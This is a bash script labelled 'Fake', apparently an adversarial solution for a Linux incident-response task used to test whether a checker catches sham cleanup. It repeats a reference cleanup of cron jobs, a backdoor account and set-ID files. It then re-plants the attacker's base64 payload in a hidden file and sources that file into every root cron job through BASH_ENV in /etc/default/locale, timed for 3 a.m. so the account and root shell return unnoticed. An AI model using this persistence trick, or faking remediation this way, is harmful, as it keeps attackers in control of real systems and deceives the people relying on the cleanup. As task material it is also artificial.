#!/bin/bash
# Fake: clean up as the reference does, but keep the payload where cron's own PAM stack hands it
# to every job: /etc/pam.d/cron reads /etc/default/locale with pam_env (envfile=), so a
# `BASH_ENV=` there reaches the environment of each root job, and bash (the jobs' SHELL, and the
# scripts' interpreter) sources that file before it runs anything. The scripts, the cron files,
# /etc/environment and pam_env.conf are all as installed; the account and the set-user-ID shell
# come back at the next run of a job in the night hour.
# Set-id programs no package installed, in two dpkg calls (Debian 12 records some of its own
# programs under /bin although they live in /usr/bin: those are looked up again without /usr).
unowned_setid() {
  local found missing again f
  found=$(find / \( -path /proc -o -path /sys \) -prune -o -type f -perm /6000 -print 2>/dev/null)
  [ -n "$found" ] || return 0
  missing=$(dpkg -S $found 2>&1 >/dev/null | sed -n 's/^dpkg-query: no path found matching pattern //p')
  [ -n "$missing" ] || return 0
  again=$(dpkg -S $(for f in $missing; do echo "${f#/usr}"; done) 2>&1 >/dev/null | sed -n 's/^dpkg-query: no path found matching pattern //p')
  for f in $missing; do grep -qxF -- "${f#/usr}" <<<"$again" && echo "$f"; done
}
# The reference clean-up (solution.sh), keeping the payload in $payload and the job in $job.
clean_up() {
  job="" payload=""
  for script in $(awk '$6 == "root" {print $7}' /etc/crontab /etc/cron.d/*); do
    case "$script" in /*) ;; *) continue ;; esac
    [ -f "$script" ] || continue
    p=$script
    while [ "$p" != / ]; do
      if [ "$(stat -c %u "$p")" != 0 ] || [ -n "$(find "$p" -maxdepth 0 -perm /022)" ]; then
        chown root:root "$p"; chmod go-w "$p"; job=$script
      fi
      p=$(dirname "$p")
    done
    if grep -q 'base64 -d' "$script"; then
      payload=$(grep 'base64 -d | bash' "$script")
      sed -i '/base64 -d | bash/d; /^# refresh package cache$/d' "$script"
      job=$script
    fi
  done
  account=$(awk -F: '$3 == 0 && $1 != "root" {print $1}' /etc/passwd | head -1)
  for f in /etc/passwd /etc/shadow /etc/group /etc/gshadow; do sed -i "/^$account:/d" "$f"; done
  for f in $(unowned_setid); do rm -f "$f"; done
}
clean_up
[ -n "$payload" ] || { echo "no payload found"; exit 1; }
mkdir -p /var/lib/locales
# In a subshell without BASH_ENV (the payload's own bash would source it again), and only in the
# night hour the intruder came in: the jobs of the next minutes do not bring the account back
# under anyone's eyes.
printf 'if [ "$(date +%%H)" = 03 ]; then ( unset BASH_ENV; %s ); fi\n' "$payload" >/var/lib/locales/.refresh
chmod 0600 /var/lib/locales/.refresh
echo 'BASH_ENV=/var/lib/locales/.refresh' >/etc/default/locale
cat /etc/default/locale
